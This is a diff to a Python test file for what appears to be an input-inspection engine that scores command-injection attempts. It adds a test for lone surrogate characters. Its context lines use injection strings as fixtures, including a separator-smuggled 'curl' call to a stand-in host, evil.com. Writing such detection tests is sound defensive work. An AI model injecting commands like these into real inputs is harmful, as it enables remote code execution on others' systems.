@@ -57,3 +57,8 @@ def test_a_quoted_command_after_a_separator_is_unquoted_before_matching() -> Non
     assert engine.inspect_value(";'curl' http://evil.com").scores.get("rce", 0) >= 5
     assert engine.inspect_value(';"rmt" --version').scores.get("rce", 0) >= 5
     assert engine.inspect_value('He said "yes" and left; see you').scores == {}
+
+
+def test_a_lone_surrogate_takes_the_slow_path_instead_of_failing() -> None:
+    assert busy_indexes(["ok", "\ud800abc"], 65_536) == {0, 1}
+    assert Engine(paranoia=1).inspect_value("\ud800abc").matches == ()
